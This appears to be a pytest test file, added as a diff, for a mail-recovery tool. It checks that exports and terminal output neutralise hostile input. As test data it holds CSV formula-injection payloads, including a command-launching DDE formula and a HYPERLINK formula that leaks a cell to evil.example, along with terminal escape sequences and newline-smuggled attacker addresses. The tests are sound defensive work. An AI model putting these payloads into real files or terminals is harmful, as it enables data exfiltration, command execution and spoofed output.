@@ -1,0 +1,238 @@
+"""Names from sources are hostile: no export gains a line, no spreadsheet runs a formula, no
+terminal obeys an escape, whatever names, addresses, folders and file names hold."""
+
+from __future__ import annotations
+
+import csv
+import email.utils
+import io
+import json
+import unicodedata
+from datetime import datetime, timezone
+from pathlib import Path
+
+import pytest
+
+import mailrecover.cli
+from mailrecover.cli import main
+from mailrecover.gather import _store_evidence
+from mailrecover.members import ExportFormat, export, reconstruct
+from mailrecover.model import Evidence
+from mailrecover.plugin import Store
+from mailrecover.workspace import Workspace
+
+LIST = "dev@lists.example.org"
+ACCOUNT = "taro@example.co.jp"
+
+#: What breaks a line or a terminal: C0 line breaks and others, DEL, C1 (NEL, CSI), the Unicode
+#: line and paragraph separators, a bidi override, and a lone surrogate (from undecodable names).
+CONTROLS = {
+    "LF": "\n", "CR": "\r", "CRLF": "\r\n", "NUL": "\0", "TAB": "\t", "VT": "\v", "FF": "\f",
+    "ESC": "\x1b", "FS": "\x1c", "DEL": "\x7f", "NEL": "\x85", "CSI": "\x9b", "LS": "\u2028",
+    "PS": "\u2029", "RLO": "\u202e",
+}  # fmt: skip
+
+#: A terminal title change (OSC), a screen clear (CSI), a bidi override and a forged line: what
+#: a name may carry.
+ESCAPES = "\x1b]0;owned\x07\x1b[2J\u202e\nmailrecover: forged"
+SHOWN = "?]0;owned??[2J??mailrecover: forged"  # the same, cleaned
+
+
+def _hostile(text: str) -> list[str]:
+    """The characters in ``text`` that break a line or act on a terminal (newlines excepted),
+    and lines a name forged."""
+    return ["forged line"] * text.count("\nmailrecover: forged") + [ch for ch in text.replace("\n", "")
+            if unicodedata.category(ch) in ("Cc", "Cs", "Zl", "Zp") or ch in "\u202a\u202b\u202d\u202e"]  # fmt: skip
+
+
+def _ev(kind: str, address: str, day: int, list_key: str = LIST, **fields: str) -> Evidence:
+    return Evidence(kind, "/var/lib/mailman/lists/dev/config.pck", str(day),
+                    datetime(2012, 3, day, tzinfo=timezone.utc), {"list": list_key, "address": address, **fields})  # fmt: skip
+
+
+def _picture(c: str):
+    """Two good members whose names carry ``c``, and two addresses that carry it."""
+    return reconstruct([
+        _ev("member", "alice@example.org", 1, name=f"Alice{c}attacker@evil.example"),
+        _ev("member", "dave@example.org", 2, name=f"Dave{c}=cmd|' /C calc'!A0"),
+        _ev("member", f"bob{c}@example.org", 3),
+        _ev("member", f"carol@example.org{c}attacker@evil.example", 4),
+    ])[LIST]  # fmt: skip
+
+
+def _entries(fmt: ExportFormat, text: str) -> list[str]:
+    """The addresses a list manager reads from an export, one per line as it splits lines."""
+    lines = text.splitlines()  # Python splits on CR, FS, NEL, U+2028 … too: none may hide in a line
+    assert lines == text.split("\n")[:-1]
+    if fmt is ExportFormat.CSV:
+        rows = list(csv.reader(io.StringIO(text)))
+        assert rows[0][0] == "address" and all(len(r) == 6 for r in rows)
+        return [r[0] for r in rows[1:]]
+    if fmt is ExportFormat.FML:
+        return lines
+    return [email.utils.parseaddr(line)[1] for line in lines]
+
+
+@pytest.mark.parametrize("name", CONTROLS)
+@pytest.mark.parametrize("fmt", list(ExportFormat))
+def test_no_export_carries_a_control_character_or_an_address_that_is_none(fmt, name):
+    c = CONTROLS[name]
+    text, left_out = export(_picture(c), fmt)
+    assert _hostile(text) == []
+    assert _entries(fmt, text) == ["alice@example.org", "dave@example.org"]
+    assert "\nattacker@evil.example" not in text and not text.startswith("attacker")
+    assert sorted(p.reason for p in left_out) == sorted(
+        f"left out of the export of {LIST}: {a!r} is not an address a list manager can take"
+        for a in (f"bob{c}@example.org", f"carol@example.org{c}attacker@evil.example")
+    )
+    assert all(p.source.endswith("config.pck") for p in left_out)
+
+
+@pytest.mark.parametrize("address", ['"a b"@example.org', "a@b@example.org", "a..b@example.org", ".a@example.org",
+                                     "a@-example.org", "a@example..org", "a@[127.0.0.1]", "a b@example.org",
+                                     "<a@example.org>", "a@", "@example.org", "a"])  # fmt: skip
+def test_an_address_that_is_no_plain_addr_spec_is_left_out(address):
+    picture = reconstruct([_ev("member", address, 1), _ev("member", "ok@example.org", 2)])[LIST]
+    for fmt in ExportFormat:
+        text, left_out = export(picture, fmt)
+        assert _entries(fmt, text) == ["ok@example.org"] and len(left_out) == 1
+
+
+def test_international_addresses_stay():
+    picture = reconstruct([_ev("member", "太郎@例え.jp", 1, name="山田 太郎"), _ev("member", "o'neil+ml@example.org", 2)])[LIST]
+    for fmt in ExportFormat:
+        text, left_out = export(picture, fmt)
+        assert sorted(_entries(fmt, text)) == ["o'neil+ml@example.org", "太郎@例え.jp"] and left_out == []
+
+
+def _workspace(tmp_path: Path, evidence: list[Evidence]) -> Path:
+    """A workspace holding ``evidence`` as a list plugin (or a log plugin) stored it."""
+    ws = tmp_path / "ws"
+    with Workspace(ws) as w:
+        loc = w.location("/var/lib/mailman", "mailman2", list_address=LIST)
+        w.db.execute("BEGIN")
+        for e in evidence:
+            _store_evidence(w, loc, "", LIST, e)
+        w.commit()
+    return ws
+
+
+@pytest.mark.parametrize("fmt", [f.value for f in ExportFormat])
+def test_members_export_through_the_command_line_shows_what_it_left_out_and_exits_3(fmt, tmp_path, capsys):
+    ws = _workspace(tmp_path, [
+        _ev("member", "alice@example.org", 1, name="Alice\nattacker@evil.example"),
+        _ev("member", "bob\r@example.org", 2, name="Bob"),
+    ])  # fmt: skip
+    assert main(["--workspace", str(ws), "members", "--list", LIST, "--format", fmt]) == 3
+    out = capsys.readouterr()
+    assert _entries(ExportFormat(fmt), out.out) == ["alice@example.org"] and _hostile(out.out) == []
+    assert out.err.count("\n") == 1 and "mailrecover: skipped:" in out.err and "'bob\\r@example.org'" in out.err
+
+
+# --- CSV cells a spreadsheet would run ------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+            "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def test_members_csv_neutralises_every_cell_that_would_start_a_formula():
+    picture = reconstruct(
+        [_ev("member", f"m{n}@example.org", n + 1, name=f) for n, f in enumerate(FORMULAS)]
+        + [_ev("member", "=1+2@evil.example", 9, name="ok"), _ev("member", "-x@example.org", 10, name="ok")]
+    )[LIST]  # fmt: skip
+    rows = list(csv.reader(io.StringIO(export(picture, ExportFormat.CSV).text)))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    names = {r[0]: r[1] for r in rows[1:]}
+    assert [names[f"m{n}@example.org"] for n in range(len(FORMULAS))] == [
+        "'" + f.replace("\t", "?").replace("\r", "?") for f in FORMULAS
+    ]
+    assert {"'=1+2@evil.example", "'-x@example.org"} <= set(names)  # valid addresses, kept and quoted
+
+
+def _deliveries(tmp_path: Path, senders: list[str]) -> Path:
+    """Mail the logs show delivered to ``ACCOUNT`` from each sender, and no copy of it."""
+    evidence = [
+        Evidence("delivery", "/var/log/mail.log", str(n), datetime(2012, 6, 1, 0, n, tzinfo=timezone.utc),
+                 {"message_id": f"<{n}@x>", "sender": s, "recipient": ACCOUNT, "status": "sent", "relay": "local"})
+        for n, s in enumerate(senders)
+    ]  # fmt: skip
+    return _workspace(tmp_path, evidence)
+
+
+def test_report_senders_neutralises_formulas_and_leaves_out_what_is_no_address(tmp_path, capsys):
+    ws = _deliveries(tmp_path, ["=1+2@evil.example", "+1@evil.example", "ok@example.org", "",
+                                '=HYPERLINK("http://evil.example/")', "bob\n@example.org", "carol@example.org\u2028x"])  # fmt: skip
+    assert main(["--workspace", str(ws), "report", "--account", ACCOUNT, "--senders"]) == 3
+    out = capsys.readouterr()
+    rows = list(csv.reader(io.StringIO(out.out)))
+    assert _hostile(out.out) == [] and out.out.splitlines() == out.out.split("\n")[:-1]
+    assert sorted(r[0] for r in rows[1:]) == ["", "'+1@evil.example", "'=1+2@evil.example", "ok@example.org"]
+    assert out.err.count("mailrecover: skipped:") == 3 and "HYPERLINK" in out.err and _hostile(out.err) == []
+
+
+# --- every command's terminal output ---------------------------------------------------------
+
+
+def test_restore_dry_run_shows_hostile_folder_names_cleaned_and_json_keeps_them(tmp_path, capsys):
+    maildir = tmp_path / "Maildir"
+    folder = maildir / f".Work{ESCAPES}"
+    for base in (maildir, folder):
+        for sub in ("cur", "new", "tmp"):
+            (base / sub).mkdir(parents=True)
+    (folder / "cur" / "1.M1.host:2,S").write_bytes(b"From: a@example.org\nMessage-ID: <1@x>\nSubject: s\n\nbody\n")
+    ws = tmp_path / "ws"
+    assert main(["--workspace", str(ws), "gather", "--account", ACCOUNT, str(maildir)]) == 0
+    capsys.readouterr()
+    target = f"maildir:{tmp_path / 'out'}"
+    assert main(["--workspace", str(ws), "restore", "--account", ACCOUNT, "--to", target, "--dry-run"]) == 0
+    out = capsys.readouterr().out
+    assert _hostile(out) == [] and f"Work{SHOWN}" in out
+    assert main(["--workspace", str(ws), "--json", "restore", "--account", ACCOUNT, "--to", target, "--dry-run"]) == 0
+    out = capsys.readouterr().out
+    assert _hostile(out) == [] and list(json.loads(out)["folders"]) == [f"Work{ESCAPES}"]  # escaped, not lost
+    assert main(["--workspace", str(ws), "report"]) == 0
+    assert _hostile(capsys.readouterr().out) == []
+
+
+def test_gather_verbose_names_hostile_files_cleaned(tmp_path, capsys):
+    tree = tmp_path / "home"
+    tree.mkdir()
+    (tree / f"notes{ESCAPES}.txt").write_bytes(b"\x00\x01 not mail at all")
+    (tree / f"cut{ESCAPES}.eml").write_bytes(b"")
+    ws = tmp_path / "ws"
+    assert main(["--workspace", str(ws), "-v", "gather", "--account", ACCOUNT, str(tree)]) == 3  # the empty .eml
+    out = capsys.readouterr()
+    assert "skipped (not a mail store)" in out.err and f"notes{SHOWN}.txt" in out.err
+    assert _hostile(out.err) == [] and _hostile(out.out) == []
+
+
+def test_members_names_hostile_lists_cleaned(tmp_path, capsys):
+    ws = _workspace(tmp_path, [_ev("member", "alice@example.org", 1, list_key=f"dev{ESCAPES}@lists.example.org")])
+    assert main(["--workspace", str(ws), "members"]) == 0
+    out = capsys.readouterr().out
+    assert _hostile(out) == [] and f"dev{SHOWN}@lists.example.org  1 member" in out
+    assert main(["--workspace", str(ws), "--json", "members"]) == 0
+    out = capsys.readouterr().out
+    assert _hostile(out) == [] and json.loads(out)[0]["list"] == f"dev{ESCAPES}@lists.example.org"
+
+
+class _FakeStores:
+    """A plugin that finds a store whose path and account are hostile (as a profile can name them)."""
+
+    name = "fake"
+    description = f"finds hostile stores{ESCAPES}"
+
+    def discover(self) -> list[Store]:
+        return [Store("fake", f"/home/x/Mail{ESCAPES}", 10, (f"taro{ESCAPES}@example.co.jp",))]
+
+
+def test_discover_and_plugins_show_hostile_names_cleaned(monkeypatch, capsys):
+    monkeypatch.setattr(mailrecover.cli, "load_plugins", lambda: {"fake": _FakeStores()})
+    for command in (["discover"], ["plugins"]):
+        assert main(command) == 0
+        out = capsys.readouterr()
+        assert _hostile(out.out) == [] and _hostile(out.err) == [] and SHOWN in out.out
+    assert main(["--json", "discover"]) == 0
+    out = capsys.readouterr().out
+    assert _hostile(out) == [] and json.loads(out)[0]["hints"] == [f"taro{ESCAPES}@example.co.jp"]
